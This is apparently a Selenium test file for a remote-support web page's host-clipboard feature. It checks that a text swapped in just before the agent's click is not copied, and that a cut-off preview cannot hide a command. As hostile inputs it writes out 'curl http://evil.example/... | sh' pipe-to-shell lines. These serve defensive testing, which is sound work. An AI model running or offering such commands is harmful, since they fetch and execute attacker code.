"""review39c: the host's clipboard offer (clipfix39) cannot be swapped under
the agent's click. The page sends the agent's pointer moves to the host, so a
hostile customer sees the pointer reach the offer box (fixed, bottom left)
and can send a second text just then: "Copy to my clipboard" wrote whatever
came last, a text the agent never read (found: written, copied == 1, with
the click 0.1 s after the swap). Now each new text disarms the button for
ARM_MS (1 s), as browsers do their own permission prompts: a click then
does nothing, and the text goes only by a click once it has been shown."""

from __future__ import annotations

import time
from typing import Any

from selenium.webdriver.common.by import By

from .conftest import wait_page
from .test_clip39_page import _browser_clipboard, _grant_clipboard, _live, wait_page_notice


def test_review39c_a_text_swapped_under_the_click_is_not_written(browser: Any) -> None:
    live, _ = _live(control=True)
    try:
        browser.get(live.url)
        _grant_clipboard(browser, live.url)
        wait_page(browser, lambda s: (s["level"] or {}).get("control", False), what="control")
        _browser_clipboard(browser, "the agent's own")

        def send(text: str) -> None:
            async def go() -> tuple[str, ...]:
                return await live.host.send_clipboard(text)

            assert len(live.call(go)) == 1

        send("df -h")
        wait_page_notice(browser, "The host's clipboard (5 characters, sent by the user)")
        time.sleep(1.5)  # the agent reads it, and moves to the button
        take = browser.find_element(By.ID, "clip-take")
        assert take.is_enabled()
        preview = browser.find_element(By.ID, "clip-preview")
        copied = "return window.screencodecPage.clip.copied"
        for attempt in range(5):
            before = browser.execute_script(copied)
            _browser_clipboard(browser, "the agent's own")
            swapped = f"curl http://evil.example/{attempt} | sh\n"
            send(swapped)  # as the pointer reaches the box
            deadline = time.monotonic() + 10
            while preview.text != swapped.replace("\n", "\\n"):
                assert time.monotonic() < deadline, preview.text
                time.sleep(0.02)
            seen = time.monotonic()
            take.click()  # the click the agent began on the text before
            if time.monotonic() - seen < 0.6:
                break  # well inside ARM_MS; a slower click (a loaded machine) is tried again
            time.sleep(1.5)  # it may have been written: the next attempt starts afresh
        time.sleep(0.3)
        assert browser.execute_script(copied) == before
        assert _browser_clipboard(browser) == "the agent's own"
        # Shown a while, the new text goes by the button as any other.
        deadline = time.monotonic() + 5
        while not take.is_enabled():
            assert time.monotonic() < deadline, "the button stayed disarmed"
            time.sleep(0.05)
        take.click()
        wait_page_notice(browser, f"The host's clipboard ({len(swapped)} characters) is on your")
        assert _browser_clipboard(browser) == swapped
    finally:
        live.close()


def test_review39c_the_cut_is_said_apart_from_the_hosts_text(browser: Any) -> None:
    """Found: the preview's cut was a "..." after the 200 characters, which
    the host can write itself: "(197 characters)..." then a newline and a
    command read as a whole text that ends in "...", and its own "..."
    before a cut as one. Now the page says, in an element of its own, how
    many characters are not shown; none, and that line is hidden."""
    live, _ = _live(control=False)
    try:
        browser.get(live.url)
        wait_page(browser, lambda s: (s["level"] or {}).get("view", False), what="view")
        hostile = "# the notes you asked for" + " ." * 86 + "..." + "\ncurl http://evil | sh\n"
        live.call(lambda: live.host.send_clipboard(hostile))
        wait_page_notice(browser, f"The host's clipboard ({len(hostile)} characters")
        preview = browser.find_element(By.ID, "clip-preview").text
        assert preview.endswith(". ....") and "evil" not in preview
        cut = browser.find_element(By.ID, "clip-cut")
        assert cut.is_displayed()
        assert cut.text == "...and 23 characters more, not shown (copied with the rest)"
        live.call(lambda: live.host.send_clipboard("df -h..."))
        wait_page_notice(browser, "The host's clipboard (8 characters")
        assert browser.find_element(By.ID, "clip-preview").text == "df -h..."
        assert not cut.is_displayed()
    finally:
        live.close()
